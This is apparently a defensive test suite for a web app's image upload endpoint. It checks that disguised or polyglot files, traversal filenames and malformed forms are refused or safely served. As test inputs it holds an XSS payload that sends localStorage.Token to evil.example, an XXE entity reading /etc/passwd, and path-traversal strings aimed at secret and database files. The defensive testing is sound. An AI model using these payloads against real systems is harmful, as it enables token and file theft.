import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { pngOf, startTestServer, upload, type TestServer } from '@netbar/server/testing'
import { Status } from '@netbar/shared/contract'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

let server: TestServer
let token: string
beforeAll(async () => {
  server = await startTestServer()
  token = await server.signIn('xh001_cash1')
})
afterAll(() => server.stop())

const files = () => readdirSync(join(server.dataDir, 'uploads')).toSorted()
const SCRIPT = '<script>fetch("//evil.example/"+localStorage.Token)</script>'
const png = pngOf([9, 9, 9])

describe('an uploaded file', () => {
  it.each([
    ['a page', Buffer.from(`<!doctype html>${SCRIPT}`)],
    ['a drawing that runs scripts', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
    [
      'a document with an entity',
      Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x/>'),
    ],
    ['a script', Buffer.from('alert(1)')],
    ['an archive', Buffer.from('PK\u0003\u0004' + 'x'.repeat(100))],
    ['a document of Acrobat', Buffer.from('%PDF-1.7\n')],
    ['a program', Buffer.from('\u007fELF' + 'x'.repeat(100))],
    ['a picture behind a page', Buffer.concat([Buffer.from(`<!doctype html>${SCRIPT}`), png])],
  ])('is refused when it is %s that claims to be a picture', async (_, content) => {
    const before = files()
    const { body } = await upload(server, token, content, { name: 'picture.png', type: 'image/png' })
    expect(body).toMatchObject({ status: Status.invalidFields, errors: [{ field: 'file' }] })
    expect(files()).toEqual(before)
  })

  it.each([
    '../../../evil.png',
    '..\\..\\evil.png',
    '/etc/cron.d/evil',
    'a\u0000.html',
    'x.html',
    'x.php',
    '.htaccess',
  ])('is stored under a name of the server’s, not as %s', async (name) => {
    const { body } = await upload(server, token, png, { name, type: 'text/html' })
    expect(body).toMatchObject({
      status: Status.ok,
      data: { url: expect.stringMatching(/^\/uploads\/[0-9a-f]{64}\.png$/), mime: 'image/png' },
    })
    expect(files().every((file) => /^[0-9a-f]{64}\.(png|jpg|webp|gif|mp4)$/.test(file))).toBe(true)
  })

  it('that is picture and page at once is served as the picture, and cannot run a script', async () => {
    const both = Buffer.concat([png, Buffer.from(`<!doctype html>${SCRIPT}`)])
    const { body } = await upload(server, token, both, { name: 'x.html', type: 'text/html' })
    expect(body).toMatchObject({ status: Status.ok })
    const { url } = Object(body['data'])
    const { headers } = await fetch(server.url + String(url), { headers: { Accept: 'text/html' } })
    expect(headers.get('content-type')).toBe('image/png')
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox")
    expect(headers.get('access-control-allow-origin')).toBeNull()
  })

  it.each([
    'multipart/form-data',
    'multipart/form-data; boundary=',
    'multipart/form-data; boundary="',
    `multipart/form-data; boundary=${'x'.repeat(500)}`,
    'multipart/mixed; boundary=x',
    'application/json',
  ])('in an invalid form is refused: %s', async (type) => {
    for (const body of [
      '',
      '--x\r\n',
      '--x\r\nContent-Disposition: form-data; name="file"; filename="x.png"\r\n\r\n',
    ]) {
      const answer = await fetch(`${server.url}/api/admin/image/upload`, {
        method: 'POST',
        headers: { Authorization: token, 'Content-Type': type },
        body,
      })
      expect(answer.status, body).toBe(200)
      expect(await answer.json()).toMatchObject({ status: Status.invalidFields })
    }
  })

  it('among a thousand fields of a form is refused', async () => {
    const form = new FormData()
    for (let index = 0; index < 1_000; index += 1) form.append(`field${index}`, 'x'.repeat(100))
    form.append('file', new Blob([new Uint8Array(png)]), 'x.png')
    const answer = await fetch(`${server.url}/api/admin/image/upload`, {
      method: 'POST',
      headers: { Authorization: token },
      body: form,
    })
    expect(await answer.json()).toMatchObject({ status: Status.invalidFields })
  })
})

describe('the upload folder', () => {
  it.each([
    '',
    '/',
    '/..%2ftoken-secret',
    '/..%2f..%2fetc%2fpasswd',
    '/..%5ctoken-secret',
    '/..%2fnetbar.db',
    '/incoming-x',
  ])('serves nothing else at %j', async (path) => {
    const answer = await fetch(`${server.url}/uploads${path}`)
    expect([Status.notFound, Status.invalidFields]).toContain(Object(await answer.json()).status)
  })
})
